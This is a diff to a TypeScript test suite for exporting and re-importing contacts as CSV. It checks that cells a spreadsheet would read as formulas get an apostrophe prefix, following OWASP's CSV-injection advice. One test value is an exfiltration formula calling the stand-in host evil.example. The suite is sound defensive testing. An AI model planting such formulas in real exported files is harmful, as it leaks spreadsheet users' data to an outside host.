@@ -68,8 +68,46 @@ describe('writing a CSV of contacts in the console', () => {
       '\ufeffemail,status,name,note,age\r\nann@example.com,Active,"Smith, Ann","says ""hi""\nbye",\r\nbob@example.com,Unsubscribed," Bob",,40\r\n',
     )
     const read = readContactsCsv(text)
-    assert.deepEqual(read.variables, ['status', 'name', 'note', 'age'])
-    assert.deepEqual(read.contacts[0]?.variables, { status: 'Active', name: 'Smith, Ann', note: 'says "hi"\nbye' })
+    assert.deepEqual(read.variables, ['name', 'note', 'age'])
+    assert.deepEqual(read.contacts[0]?.variables, { name: 'Smith, Ann', note: 'says "hi"\nbye' })
+  })
+
+  it('puts an apostrophe before a cell a spreadsheet would read as a formula (=, +, -, @, tab, CR), as OWASP advises', () => {
+    const contacts: ExportedContact[] = [
+      { email: '-joe@example.com', status_explain: 'Active', variables: { a: '=HYPERLINK("https://evil.example/?"&A1)', b: '+1', c: -5, d: '@SUM(A1)', e: '\tx', f: '\rx' } },
+      { email: 'ann@example.com', status_explain: 'Active', variables: { a: "'=already", b: "it's", c: 7, d: 'a=b', e: "'", f: '' } },
+    ]
+    const lines = contactsCsv(contacts).slice(1).split('\r\n')
+    assert.equal(lines[1], `'-joe@example.com,Active,"'=HYPERLINK(""https://evil.example/?""&A1)",'+1,'-5,'@SUM(A1),'\tx,"'\rx"`)
+    assert.equal(lines[2], `ann@example.com,Active,''=already,it's,7,a=b,',`)
+  })
+
+  it('reads an export back as it was: the apostrophes taken off, numbers still numbers, the status column not a variable', () => {
+    const contacts: ExportedContact[] = [
+      { email: '-joe@example.com', status_explain: 'Active', variables: { a: '=1+1', n: -5, q: "'=quoted", s: "it's" } },
+      { email: 'new@example.com', status_explain: 'New', variables: { a: '@x', n: 3, q: "'", s: '' } },
+      { email: 'gone@example.com', status_explain: 'Unsubscribed', variables: { a: 'x', n: 1 } },
+      { email: 'bounced@example.com', status_explain: 'Sending error', variables: {} },
+    ]
+    const read = readContactsCsv(contactsCsv(contacts))
+    assert.equal(read.statusColumn, true)
+    assert.deepEqual(read.variables, ['a', 'n', 'q', 's'])
+    assert.deepEqual(read.contacts, [
+      { line: 2, email: '-joe@example.com', variables: { a: '=1+1', n: -5, q: "'=quoted", s: "it's" } },
+      { line: 3, email: 'new@example.com', variables: { a: '@x', n: 3, q: "'" } },
+    ])
+    // The API would add them as Active: someone who left is not signed up again by a re-import.
+    assert.deepEqual(read.skipped, [
+      { line: 4, reason: 'Unsubscribed: not added again (it would be Active)' },
+      { line: 5, reason: 'Sending error: not added again (it would be Active)' },
+    ])
+  })
+
+  it('keeps a status column of other values as a variable, and an apostrophe before ordinary text', () => {
+    const read = readContactsCsv("email,Status,note\na@example.com,gold,'hello\nb@example.com,Active,\n")
+    assert.equal(read.statusColumn, false)
+    assert.deepEqual(read.variables, ['Status', 'note'])
+    assert.deepEqual(read.contacts.map((c) => c.variables), [{ Status: 'gold', note: "'hello" }, { Status: 'Active' }])
   })
 })
 
